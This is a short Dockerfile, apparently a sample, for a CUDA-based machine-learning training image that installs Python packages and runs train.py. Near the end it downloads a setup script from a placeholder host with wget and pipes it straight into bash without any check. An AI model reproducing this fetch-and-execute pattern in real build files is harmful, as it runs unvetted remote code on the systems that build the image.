FROM nvidia/cuda
RUN apt-get update \
    && apt-get install -y --no-install-recommends htop wget curl ffmpeg \
    && rm -rf /var/lib/apt/lists/*
RUN python3 -m pip install scipy==1.12.0 einops==0.8.0 pandas==2.2.1 datasets==2.19.0
RUN python -m pip install --no-cache-dir numpy datasets==2.19.0 jax
COPY requirements.txt /tmp/requirements.txt
RUN python3 -m pip install -r /tmp/requirements.txt
WORKDIR app
USER 1000
EXPOSE 8000/tcp
RUN wget -qO- https://example.org/setup.sh | bash
CMD python train.py --config configs/base.yaml
